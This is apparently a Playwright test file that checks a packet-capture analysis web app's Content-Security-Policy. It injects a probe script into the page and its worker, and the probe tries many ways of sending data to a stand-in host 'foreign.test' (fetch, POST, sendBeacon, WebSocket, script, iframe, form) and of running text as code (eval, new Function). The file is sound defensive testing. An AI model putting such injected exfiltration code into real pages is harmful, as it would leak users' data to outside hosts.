import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, samplePath, test, untilState } from './page.ts';
import { servePage, type PageServer } from './static-server.ts';

/** A name that the browser of these tests resolves to this machine; no policy allows it. */
const FOREIGN_NAME = 'foreign.test';

let foreign: Server;
let hits: string[] = [];
let page_: PageServer | undefined;

test.beforeEach(async () => {
  hits = [];
  foreign = createServer((request, response) => {
    hits.push(request.url ?? '');
    response
      .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
      .end('');
  });
  foreign.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((ready) => foreign.listen(0, '127.0.0.1', ready));
});

test.afterEach(async () => {
  await page_?.close();
  page_ = undefined;
  foreign.closeAllConnections();
  await new Promise((ended) => foreign.close(ended));
});

/** Code that tries every way out and every way to make code from text, in a page or a worker; sets `attempts`. */
function probe(port: number): string {
  return `
;globalThis.attempts = (async () => {
  const result = {};
  const http = 'http://${FOREIGN_NAME}:${port}/', ws = 'ws://${FOREIGN_NAME}:${port}/', other = 'http://127.0.0.1:${port}/';
  const settled = (promise) => Promise.race([promise, new Promise((r) => setTimeout(() => r('silence'), 1500))]);
  const attempt = async (name, run) => {
    try { result[name] = String(await settled(run())); } catch (error) { result[name] = 'refused'; }
  };
  await attempt('fetch', () => fetch(http + 'fetch').then(() => 'done'));
  await attempt('fetch without cors', () => fetch(other + 'no-cors', { mode: 'no-cors' }).then(() => 'done'));
  await attempt('post', () => fetch(http + 'post', { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }).then(() => 'done'));
  await attempt('xhr', () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = () => ok('done'); x.onerror = no; x.open('GET', http + 'xhr'); x.send(); }));
  await attempt('websocket', () => new Promise((ok, no) => { const s = new WebSocket(ws + 'ws'); s.onopen = () => ok('done'); s.onerror = no; }));
  await attempt('events', () => new Promise((ok, no) => { const s = new EventSource(http + 'events'); s.onopen = () => ok('done'); s.onerror = no; }));
  await attempt('import', () => import(/* @vite-ignore */ http + 'import.js').then(() => 'done'));
  await attempt('worker', () => new Promise((ok, no) => { const w = new Worker(http + 'worker.js'); w.onmessage = () => ok('done'); w.onerror = no; }));
  await attempt('blob worker', () => new Promise((ok, no) => {
    const source = "fetch('" + http + "blob-worker').then(() => postMessage('done'), () => postMessage('refused'))";
    const w = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    w.onmessage = (event) => ok(event.data); w.onerror = no;
  }));
  await attempt('eval', () => (0, eval)('"done"'));
  await attempt('new Function', () => new Function('return "done"')());
  await attempt('timer text', () => new Promise((ok) => { globalThis.timerText = () => ok('done'); setTimeout('timerText()', 0); setTimeout(() => ok('refused'), 300); }));
  if (typeof document !== 'undefined') {
    await attempt('image', () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('done'); i.onerror = no; i.src = http + 'image'; }));
    await attempt('beacon', () => { navigator.sendBeacon(http + 'beacon', 'x'); return 'silence'; });
    await attempt('script', () => new Promise((ok, no) => { const e = document.createElement('script'); e.onload = () => ok('done'); e.onerror = no; e.src = http + 'script.js'; document.head.append(e); }));
    await attempt('style', () => new Promise((ok, no) => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.onload = () => ok('done'); e.onerror = no; e.href = http + 'style.css'; document.head.append(e); }));
    await attempt('frame', () => new Promise((ok) => { const e = document.createElement('iframe'); e.onload = () => ok('silence'); e.src = http + 'frame'; document.body.append(e); }));
    await attempt('form', () => new Promise((ok) => { const e = document.createElement('form'); e.method = 'post'; e.target = 'nowhere'; e.action = http + 'form'; document.body.append(e); e.submit(); setTimeout(() => ok('silence'), 300); }));
    await attempt('inline script', () => new Promise((ok) => { const e = document.createElement('script'); e.textContent = 'globalThis.inlineRan = true'; document.head.append(e); ok(globalThis.inlineRan ? 'done' : 'refused'); }));
  }
  await new Promise((r) => setTimeout(r, 300));
  return result;
})();
`;
}

function port(): number {
  return (foreign.address() as AddressInfo).port;
}

function succeeded(attempts: Record<string, string>): string[] {
  return Object.entries(attempts)
    .filter(([, outcome]) => outcome === 'done')
    .map(([name]) => name);
}

declare global {
  var attempts: Promise<Record<string, string>>;
}

test('nothing leaves the page, and no text becomes code there', async ({ page, heard }) => {
  heard.expected = true;
  page_ = await servePage(0, (path, text) =>
    /^assets\/index-.*\.js$/.test(path) ? text + probe(port()) : text,
  );
  await page.goto(page_.url);
  const attempts = await page.evaluate(() => globalThis.attempts);
  expect(Object.keys(attempts).length).toBeGreaterThan(15);
  expect(succeeded(attempts)).toEqual([]);
  expect(hits).toEqual([]);
  // The page works nevertheless.
  await page.getByTestId('capture-input').setInputFiles(samplePath('wk-dm-a.pcapng'));
  await untilState(page, 'done');
});

test('nothing leaves the worker, and no text becomes code there', async ({ page, heard }) => {
  heard.expected = true;
  page_ = await servePage(0, (path, text) =>
    /^assets\/analysis\.worker-.*\.js$/.test(path) ? text + probe(port()) : text,
  );
  const started = page.waitForEvent('worker');
  await page.goto(page_.url);
  const worker = await started;
  await expect.poll(() => worker.evaluate(() => typeof globalThis.attempts)).toBe('object');
  const attempts = await worker.evaluate(() => globalThis.attempts);
  expect(Object.keys(attempts).length).toBeGreaterThan(10);
  expect(succeeded(attempts)).toEqual([]);
  expect(hits).toEqual([]);
});

test('the attempts would be noticed: without the policy they arrive', async ({ page, heard }) => {
  heard.expected = true;
  page_ = await servePage(0, (path, text) =>
    path === 'index.html'
      ? text.replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, '')
      : /^assets\/(index|analysis\.worker)-.*\.js$/.test(path)
        ? text + probe(port())
        : text,
  );
  const started = page.waitForEvent('worker');
  await page.goto(page_.url);
  const attempts = await page.evaluate(() => globalThis.attempts);
  expect(succeeded(attempts)).toEqual(expect.arrayContaining(['fetch', 'eval', 'new Function']));
  const worker = await started;
  await expect.poll(() => worker.evaluate(() => typeof globalThis.attempts)).toBe('object');
  expect(succeeded(await worker.evaluate(() => globalThis.attempts))).toEqual(
    expect.arrayContaining(['fetch', 'eval', 'new Function']),
  );
  expect(hits).toEqual(
    expect.arrayContaining(['/fetch', '/ws', '/image', '/beacon', '/frame', '/script.js']),
  );
});
